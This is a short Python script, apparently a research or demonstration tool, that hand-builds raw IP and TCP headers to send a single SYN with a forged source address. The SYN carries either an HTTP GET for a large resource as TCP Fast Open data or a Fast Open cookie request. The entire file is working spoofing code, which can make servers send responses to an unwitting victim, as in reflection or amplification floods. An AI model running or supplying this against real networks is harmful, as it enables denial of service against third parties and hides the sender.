#!/usr/bin/env python3
"""Sends one SYN with anybody's address: with a request in it ("data"), or with the wish for a Fast Open cookie alone.

  forged_syn.py SOURCE PORT data|wish SERVER SERVER-PORT
"""

import socket
import struct
import sys

source, server = socket.inet_aton(sys.argv[1]), socket.inet_aton(sys.argv[4])
port, server_port = int(sys.argv[2]), int(sys.argv[5])
options, data = (b"\x22\2\1\1", b"") if sys.argv[3] == "wish" else (b"", b"GET /large HTTP/1.0\r\n\r\n")


def checksum(text):
    text += b"\0" * (len(text) % 2)
    total = sum(struct.unpack(f"!{len(text) // 2}H", text))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def segment(check):
    offset = 5 + len(options) // 4 << 4
    return struct.pack("!HHIIBBHHH", port, server_port, 1000, 0, offset, 2, 65535, check, 0) + options + data


tcp = segment(checksum(source + server + struct.pack("!BBH", 0, 6, len(segment(0))) + segment(0)))
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, source, server)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.sendto(ip + tcp, (sys.argv[4], 0))
